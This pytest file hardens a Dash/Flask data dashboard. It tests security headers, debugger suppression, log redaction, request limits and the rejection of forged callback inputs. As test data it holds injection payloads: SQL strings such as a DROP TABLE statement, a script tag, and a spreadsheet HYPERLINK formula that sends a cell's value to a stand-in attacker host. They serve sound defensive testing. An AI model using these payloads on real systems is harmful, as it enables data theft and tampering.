"""Web hardening: security headers on every response, never a debugger, errors logged without
row contents, every callback input checked against the allowed values."""

from __future__ import annotations

import logging
import stat
from pathlib import Path
from typing import Any

import dash
import flask
import pytest

from dashboard import auth, data
from dashboard.app import content_security_policy, create_app
from dashboard.server import _Application, gunicorn_options, no_debug
from dashboard.state import load_options, sanitize

SECRET_ROW = "85073003328;Dupont;Jean"  # what must never reach a log


@pytest.fixture(scope="module")
def app(published: Path) -> dash.Dash:
    return create_app(published)


@pytest.fixture(scope="module")
def client(app: dash.Dash) -> Any:
    return app.server.test_client()


def _assert_headers(response: Any) -> None:
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self' 'sha256-" in csp
    assert "'unsafe-eval'" not in csp and "script-src 'self' 'unsafe-inline'" not in csp
    for part in (
        "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data:",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "default-src 'self'",
    ):
        assert part in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert response.headers["X-Frame-Options"] == "DENY"


@pytest.mark.parametrize(
    "url",
    [
        "/",
        "/pool/technicity?lang=nl",
        "/data",
        "/assets/observatory.css",
        "/_dash-layout",
        "/_dash-dependencies",
        "/login",
        "/pool/technicity/detail",
        "/no/such/page.txt",
    ],
)
def test_every_response_carries_the_security_headers(client: Any, url: str) -> None:
    _assert_headers(client.get(url))


def test_maintenance_and_errors_carry_them_too(tmp_path: Path) -> None:
    client = create_app(tmp_path / "missing.duckdb").server.test_client()
    response = client.get("/")
    assert response.status_code == 503
    _assert_headers(response)


def test_the_csp_allows_dash_inline_scripts_by_hash_only(app: dash.Dash, client: Any) -> None:
    page = client.get("/").get_data(as_text=True)
    assert "new DashRenderer()" in page  # the inline script the hashes must cover
    csp = client.get("/").headers["Content-Security-Policy"]
    for digest in app.csp_hashes():
        assert digest in csp
    assert content_security_policy(["'sha256-x'"]).startswith("default-src 'self'")


def test_serve_never_runs_a_debugger(
    published: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for name in ("DASH_DEBUG", "FLASK_DEBUG", "DASH_DEV_TOOLS_UI"):
        monkeypatch.setenv(name, "true")
    monkeypatch.setenv("OBSERVATORY_SESSION_SECRET", "s" * 40)
    monkeypatch.delenv("OBSERVATORY_USERS_FILE", raising=False)
    # without the warm-up (preload), which serves requests: the test adds a route after load
    options = {**gunicorn_options("127.0.0.1", 0, 2), "preload_app": False}
    application = _Application(published, options)
    server = application.load()
    assert server.debug is False
    import os

    assert "DASH_DEBUG" not in os.environ and "FLASK_DEBUG" not in os.environ

    @server.route("/_test_boom")
    def boom() -> str:
        raise RuntimeError(SECRET_ROW)

    response = server.test_client().get("/_test_boom")
    assert response.status_code == 500
    text = response.get_data(as_text=True)
    assert "Traceback" not in text and SECRET_ROW not in text and "Werkzeug" not in text
    env = {"DASH_DEBUG": "1", "KEEP": "1"}
    no_debug(env)
    assert env == {"KEEP": "1"}


def test_errors_are_logged_without_row_contents(
    published: Path, caplog: pytest.LogCaptureFixture
) -> None:
    app = create_app(published)
    server: flask.Flask = app.server

    @server.route("/_test_fail")
    def fail() -> str:
        raise ValueError(f"could not convert {SECRET_ROW!r}")

    caplog.set_level(logging.INFO)
    response = server.test_client().get("/_test_fail")
    assert response.status_code == 500
    assert "ValueError at test_security.py" in caplog.text
    assert SECRET_ROW not in caplog.text
    # a page that fails while rendering: maintenance text for the reader, no row in the log
    from dashboard.context import wrap

    def broken(*_: Any) -> Any:
        raise data.NotAllowed(SECRET_ROW)

    caplog.clear()
    with server.test_request_context("/data"):
        result = wrap(broken)(lang="en")
    assert "Maintenance" in str(result.to_plotly_json())
    assert "page failed" in caplog.text and "NotAllowed" in caplog.text
    assert SECRET_ROW not in caplog.text


# ------------------------------------------------------------------ forged callback inputs


def _filters_callback(client: Any) -> str:
    deps = client.get("/_dash-dependencies").get_json()
    return next(d["output"] for d in deps if d["output"].startswith("_pages_location.search"))


def _post_filters(client: Any, pairs: list[tuple[Any, Any]], search: str = "?lang=en") -> Any:
    output = _filters_callback(client)
    ids = [{"key": k, "type": "filter"} for k, _ in pairs]
    body = {
        "output": output,
        "outputs": {"id": "_pages_location", "property": output.split(".", 1)[1]},
        "inputs": [
            [
                {"id": i, "property": "value", "value": v}
                for i, (_, v) in zip(ids, pairs, strict=True)
            ]
        ],
        "state": [
            [{"id": i, "property": "id", "value": i} for i in ids],
            {"id": "_pages_location", "property": "search", "value": search},
        ],
        "changedPropIds": [],
    }
    return client.post("/_dash-update-component", json=body)


def _search(response: Any) -> str | None:
    assert response.status_code == 200
    found: str | None = (
        response.get_json().get("response", {}).get("_pages_location", {}).get("search")
    )
    return found


def test_allowed_filter_values_reach_the_url(client: Any) -> None:
    response = _post_filters(client, [("sector", "digitalcity"), ("occ", "2512")])
    assert _search(response) == "?lang=en&sector=digitalcity&occ=2512"


@pytest.mark.parametrize(
    ("key", "forged"),
    [
        ("lang", "de"),
        ("from", "1900-01"),
        ("to", "2024-13"),
        ("pool", "'; DROP TABLE marts.x; --"),
        ("sector", "evil"),
        ("nace", "Z9"),
        ("occ", "9999"),
        ("commune", "99999"),
        ("sex", "Q"),
        ("tg", "<script>"),
        ("pools", ["evil", "meta.indicator"]),
        ("ind", "meta.indicator.name_fr"),
        ("map", "population"),
        ("sector", {"$ne": 1}),
        ("unknown_key", "x"),
    ],
)
def test_every_forged_filter_value_is_dropped(client: Any, key: str, forged: Any) -> None:
    search = _search(_post_filters(client, [(key, forged)]))
    assert search is None or (key + "=") not in search.replace("?lang=en", "")


def test_forged_members_of_a_list_are_dropped_and_the_rest_kept(client: Any) -> None:
    search = _search(_post_filters(client, [("pools", ["technicity", "evil"])]))
    assert search == "?lang=en&pools=technicity"


def test_sanitize_keeps_only_what_parse_accepts(published: Path) -> None:
    options = load_options(published)
    query = {"lang": "nl", "sector": "digitalcity", "occ": "7212", "from": "1900-01", "x": "1"}
    assert sanitize(query, options, "fr") == {"lang": "nl", "sector": "digitalcity"}


def test_data_layer_refuses_identifiers_outside_the_allowlists(published: Path) -> None:
    with pytest.raises(data.NotAllowed):
        data.context_rows(published, "observation", ["value"])
    with pytest.raises(data.NotAllowed):
        data.context_rows(published, "official_series", ["value; DROP"])
    with pytest.raises(data.NotAllowed):
        data.context_rows(published, "official_series", ["value"], {"file_name OR 1=1": "x"})
    with pytest.raises(data.NotAllowed):
        data.restricted_cells(published, "mart_pool_participation", "technicity")


def _download(client: Any, app: dash.Dash, page: str, search: str = "?lang=en") -> Any:
    output = next(k for k in app.callback_map if "download-file.data" in k)
    button = {"fmt": "csv", "page": page, "type": "download"}
    body = {
        "output": output,
        "outputs": {"id": "download-file", "property": "data"},
        "inputs": [[{"id": button, "property": "n_clicks", "value": 1}]],
        "state": [
            {"id": "_pages_location", "property": "search", "value": search},
            {"id": "_pages_location", "property": "pathname", "value": "/pool/technicity"},
        ],
        "changedPropIds": ['{"fmt":"csv","page":"' + page + '","type":"download"}.n_clicks'],
    }
    return client.post("/_dash-update-component", json=body)


def test_a_forged_download_page_never_reaches_the_exporter(client: Any, app: dash.Dash) -> None:
    forged = _download(client, app, "evil")
    assert forged.status_code in (200, 204)
    if forged.status_code == 200:  # Dash 4 answers "no update" with an empty response
        assert "download-file" not in forged.get_json().get("response", {})
    served = _download(client, app, "pool")
    assert served.status_code == 200
    assert served.get_json()["response"]["download-file"]["data"]["filename"].endswith(".csv")


@pytest.mark.parametrize("name", ['x" ; DROP', "Marts", "1x", "a.b", "", "a b"])
def test_identifiers_are_checked_again_before_quoting(name: str) -> None:
    with pytest.raises(data.NotAllowed):
        data.ident(name)


# ------------------------------------------------------------------ issue 15: the attacks


def test_a_huge_request_body_is_refused_before_it_is_read(client: Any) -> None:
    """Attack: a 150 MB JSON POST to /_dash-update-component was read whole."""
    big = b'{"output": "' + b"x" * 400_000 + b'"}'
    response = client.post(
        "/_dash-update-component", data=big, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 413
    _assert_headers(response)
    login = client.post("/login", data={"name": "a", "password": "p" * 300_000})
    assert login.status_code == 413
    small = client.post("/login", data={"name": "a", "password": "p" * 100})
    assert small.status_code in (400, 401)  # read and answered (no token here)


def test_an_unknown_language_in_the_download_callback_is_no_error(
    client: Any, app: dash.Dash
) -> None:
    """Attack: `?lang=xx` in the download callback gave a 500."""
    response = _download(client, app, "pool", search="?lang=xx")
    assert response.status_code == 200
    assert response.get_json()["response"]["download-file"]["data"]["filename"].endswith(".csv")


def test_dash_config_does_not_reveal_versions(client: Any) -> None:
    import sys

    import plotly

    page = client.get("/").get_data(as_text=True)
    config = page.split('id="_dash-config"')[1].split("</script>")[0]
    assert "requests_pathname_prefix" in config  # the configuration is there …
    for secret in ("python_version", "dash_version", "plotly_version", sys.version.split()[0]):
        assert secret not in config, secret  # … without the versions
    assert f'"{dash.__version__}"' not in config and f'"{plotly.__version__}"' not in config


def test_gunicorn_refusals_carry_the_security_headers() -> None:
    """Attack: gunicorn's own 414 page had none of the security headers."""
    import socket

    from gunicorn.http.errors import InvalidRequestLine, LimitRequestLine

    from dashboard.server import HardenedSyncWorker

    worker = object.__new__(HardenedSyncWorker)  # only handle_error is exercised
    worker.log = logging.getLogger("test.gunicorn")
    for exc, status in ((LimitRequestLine(9000, 4094), 414), (InvalidRequestLine("<x>"), 400)):
        ours, theirs = socket.socketpair()
        with ours, theirs:
            worker.handle_error(None, ours, ("127.0.0.1", 1), exc)
            ours.shutdown(socket.SHUT_WR)
            raw = theirs.recv(65536).decode("latin-1")
        head, _, body = raw.partition("\r\n\r\n")
        assert head.startswith(f"HTTP/1.1 {status} ")
        for name in ("Content-Security-Policy", "X-Content-Type-Options", "X-Frame-Options"):
            assert f"\r\n{name}: " in head
        assert "frame-ancestors 'none'" in head and "<x>" not in body


def test_two_servers_do_not_share_a_control_socket() -> None:
    assert gunicorn_options("127.0.0.1", 8063, 2)["control_socket_disable"] is True
    options = gunicorn_options("127.0.0.1", 8063, 2)
    assert options["worker_class"] == "dashboard.server.HardenedSyncWorker"


def test_the_managers_detail_csv_neutralises_formulas(published: Path, tmp_path: Path) -> None:
    """Attack: a programme named `=HYPERLINK(...)` came out raw in the managers' CSV."""
    import shutil

    import duckdb

    from tests.dashboard.test_auth import log_in, write_users

    copy = tmp_path / "published.duckdb"
    shutil.copy(published, copy)
    shutil.copy(published.with_name("restricted.duckdb"), tmp_path / "restricted.duckdb")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Soudure")'
    with duckdb.connect(str(tmp_path / "restricted.duckdb")) as con:
        con.execute(
            "UPDATE main.mart_programme_month SET programme_name = ? WHERE pool_id = 'technicity'",
            [evil],
        )
    users = write_users(tmp_path / "users.toml", alice=("technicity", "correct horse"))
    settings = auth.AuthSettings(secret=b"k" * 32, users_file=users)
    manager = create_app(copy, auth_settings=settings).server.test_client()
    log_in(manager, "alice", "correct horse")
    text = manager.get("/pool/technicity/detail.csv").get_data(as_text=True)
    names = [line.split(";")[2] for line in text.lstrip("\ufeff").splitlines()[1:]]
    assert names and all(n.startswith("\"'=HYPERLINK") for n in names), names[:2]


def test_the_page_cache_on_disk_is_bounded_in_bytes(published: Path, tmp_path: Path) -> None:
    """Attack: 60 distinct renders added 132 MB; the cap was 2,000 files per publish."""
    from dashboard.limits import ServerLimits
    from dashboard.render_cache import PAGES_OUTPUT

    budget = 120_000
    shared = tmp_path / "renders"
    shared.mkdir(mode=0o700)
    app = create_app(published, render_dir=shared, limits=ServerLimits(render_cache_bytes=budget))
    renders = app.server.test_client()
    options = load_options(published)
    months = [f"{m:%Y-%m}" for m in options.months[-8:]]
    for path in ("/", "/compare", "/data"):
        for month in months:
            response = renders.post(
                "/_dash-update-component",
                json={
                    "output": PAGES_OUTPUT,
                    "outputs": [
                        {"id": "_pages_content", "property": "children"},
                        {"id": "_pages_store", "property": "data"},
                    ],
                    "inputs": [
                        {"id": "_pages_location", "property": "pathname", "value": path},
                        {"id": "_pages_location", "property": "search", "value": f"?from={month}"},
                    ],
                    "changedPropIds": ["_pages_location.pathname"],
                },
            )
            assert response.status_code == 200
    kept = [f for f in shared.rglob("*") if f.is_file()]
    assert kept, "some renders are kept"
    assert sum(f.stat().st_size for f in kept) <= budget


def test_disk_cache_removes_the_oldest_past_its_budget(tmp_path: Path) -> None:
    import os

    from dashboard import disk_cache

    folder = tmp_path / "kept"
    for i in range(5):
        disk_cache.write(folder / f"f{i}", bytes(400), budget=1000)
        os.utime(folder / f"f{i}", ns=(i * 10**9, i * 10**9))
    assert sorted(p.name for p in folder.iterdir()) == ["f3", "f4"]
    disk_cache.write(folder / "huge", bytes(2000), budget=1000)  # larger than the budget
    assert not (folder / "huge").exists()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_the_real_server_refuses_long_lines_with_headers_and_no_control_socket(
    published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Gunicorn itself (not the test client): its 414 has the headers; no shared
    ~/.gunicorn/gunicorn.ctl; the start log states the sign-on, cookie and limit modes."""
    import shutil
    import socket

    from bench.server import serving

    data_dir = tmp_path / "data"
    (data_dir / "warehouse").mkdir(parents=True)
    shutil.copy(published, data_dir / "warehouse" / "published.duckdb")
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setenv("OBSERVATORY_TRUSTED_USER_HEADER", "X-Remote-User")
    monkeypatch.delenv("OBSERVATORY_TRUSTED_PROXIES", raising=False)
    log = tmp_path / "serve.log"
    with serving(data_dir, 1, log) as (base, _):
        host, port = base.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=10) as conn:
            conn.sendall(b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
            raw = conn.recv(65536).decode("latin-1")
    assert raw.startswith("HTTP/1.1 414 ")
    assert "Content-Security-Policy: " in raw and "X-Frame-Options: DENY" in raw
    assert not (home / ".gunicorn").exists()
    started = log.read_text(encoding="utf-8")
    assert "X-Remote-User IGNORED" in started and "session cookies: Secure" in started
    assert "limits: request body 256 KB" in started
    assert stat.S_IMODE((data_dir / "secrets").stat().st_mode) == 0o700
